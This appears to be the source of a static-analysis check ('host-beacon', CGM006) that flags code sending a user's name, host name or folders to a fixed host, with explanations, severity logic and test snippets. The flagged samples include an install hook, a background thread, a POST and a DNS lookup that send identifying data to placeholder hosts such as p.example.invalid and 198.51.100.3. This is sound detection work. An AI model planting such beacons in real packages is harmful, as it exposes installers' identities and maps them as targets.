"""Who and where this machine is (user, host, folders) is sent to a fixed host, unasked.

A package that reports the user name and the host name of everyone who installs or imports it maps out its victims;
the next version knows whom to attack.  Telemetry is opt-in, says what it sends, and needs neither name.  See
CWE-506, CWE-359 and MITRE ATT&CK T1082, T1033.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._channels import sendings
from codeguard.checks.malicious._labels import words
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import commands
from codeguard.checks.malicious._when import when
from codeguard.knowledge.malicious import running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

ZONE = re.compile(r"[\w-]+\.[a-z]{2,}\.?$", re.IGNORECASE)
EARLY = {"install": "while the package is installed", "import": "as soon as the module is imported"}


def find(unit: Unit) -> Iterator[Hit]:
    """Report sendings of facts about the host: one at import or installation, two or to a drop at any time."""
    for sending in unit.fact(sendings):
        host = sending.has("host")
        if not host or sending.has("environment", "unsent", "credential", "wallet", "browser"):
            continue
        moment = when(sending.call, unit)
        if moment in EARLY and (sending.fixed or sending.drop):
            yield Hit(sending.call, f"This sends {words(host)} to {sending.where} {EARLY[moment]}, without being asked")
        elif sending.fixed and len({label.what for label in host}) >= 2:
            yield Hit(
                sending.call,
                f"This sends {words(host)} to {sending.where}: it reports who runs it, and where",
                severity=None if sending.drop else Severity.MEDIUM,
            )
        elif sending.drop and sending.how == "DNS look-ups" and _zone(sending.call, unit):
            yield Hit(
                sending.call,
                f"This looks up a name that contains {words(host)}: the owner of the zone learns it",
            )
    for command in unit.fact(commands):
        if when(command.call, unit) == "install" and command.shell and running.SEND_TOOL.search(command.text):
            yield Hit(
                command.call,
                "This command sends data to another host while the package is installed, without being asked",
            )


def _zone(call: cst.Call, unit: Unit) -> bool:
    """Whether a look-up is below a zone that stands in the text; a resolver's search list comes from elsewhere."""
    pieces = unit.fact(reach).constants(call.args[0].value) if call.args else []
    return any(ZONE.search(piece) for piece in pieces)


CHECK = Check(
    id="CGM006",
    behaviour="tell a fixed host who and where this machine is",
    name="host-beacon",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(506, 359),
    find=find,
    fix="Send nothing at installation or import; make telemetry opt-in and leave names of users and hosts out of it.",
    bad=(
        Bad(
            "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, urllib.request\n\nclass I(install):\n    def run(self):\n        install.run(self)\n        urllib.request.urlopen('https://p.example.invalid/?h=' + os.uname().nodename)  # finding\n\nsetup(name='demo', version='9.9.9', cmdclass={'install': I})\n"
        ),
        Bad(
            "import threading, getpass, urllib.parse, urllib.request\n\ndef _b():\n    q = urllib.parse.urlencode({'u': getpass.getuser(), 'p': __file__})\n    urllib.request.urlopen('http://198.51.100.3/i?' + q, timeout=3)  # finding\n\nthreading.Thread(target=_b).start()\n"
        ),
        Bad(
            "import requests, os, platform\n\ndef report():\n    requests.post('https://d.example.invalid/w', json={'c': f'{os.getlogin()} {platform.node()} {os.getcwd()}'})  # finding\n"
        ),
        Bad(
            "import socket, getpass\n\ndef ping():\n    socket.gethostbyname(f'{getpass.getuser()}.z.example.invalid')  # finding\n"
        ),
    ),
    good=(
        Good(
            "import platform, requests\n\ndef agent():\n    return f'demo/1.0 ({platform.system()}; Python {platform.python_version()})'\n\ndef get(url):\n    return requests.get(url, headers={'User-Agent': agent()}, timeout=9)\n"
        ),
        Good(
            "import os, socket, requests\n\ndef register(server):\n    requests.post(f'{server}/agents', json={'host': socket.gethostname(), 'user': os.getlogin()}, timeout=9)\n"
        ),
        Good(
            "import logging, socket\nlog = logging.getLogger(__name__)\nlog.info('running on %s', socket.gethostname())\n"
        ),
        Good(
            "import socket\n\ndef canonical(domains):\n    for domain in domains:\n        socket.gethostbyname(f'{socket.gethostname()}.{domain}')\n"
        ),
        Good("import socket\n\ndef own_address():\n    return socket.gethostbyname(socket.gethostname())\n"),
    ),
    misses=(
        Miss(
            "import os, requests\nrequests.post('https://d.example.invalid', json={'v': os.environ['USER_DISPLAY']})  # finding\n",
            why="only the usual variables are known to name a person",
        ),
    ),
)
